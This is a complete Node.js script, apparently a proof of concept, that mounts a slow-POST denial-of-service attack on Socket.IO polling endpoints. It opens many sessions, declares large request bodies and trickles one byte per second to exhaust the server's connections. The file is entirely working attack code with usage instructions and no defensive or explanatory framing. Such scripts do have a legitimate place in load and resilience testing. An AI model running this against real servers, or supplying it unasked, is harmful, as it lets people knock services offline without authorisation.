// Bodies that the server reads, and that do not end: a session takes one POST at a time, so each connection has a session of
// its own, and a POST that goes on by a byte a second. (slowhttptest knows one URL only.)
//
//     node posts.mjs URL CONNECTIONS

import { once } from "node:events";
import net from "node:net";

const [url, connections] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);
const target = "/socket.io/?EIO=4&transport=polling";

async function attack() {
  const socket = net.connect({ host, port });
  socket.on("error", () => {});
  socket.write(`GET ${target} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
  const [answer] = await once(socket, "data");
  socket.resume();
  const sid = String(answer).match(/"sid":"([^"]+)"/)[1];
  socket.write(`POST ${target}&sid=${sid} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n4`);
  const trickle = setInterval(() => socket.write("x"), 1000);
  socket.on("close", () => clearInterval(trickle));
}

for (let n = 0; n < Number(connections); n++) {
  attack().catch(() => {}); // Turned away.
  if (n % 5 === 4) await new Promise((resolve) => setTimeout(resolve, 10));
}
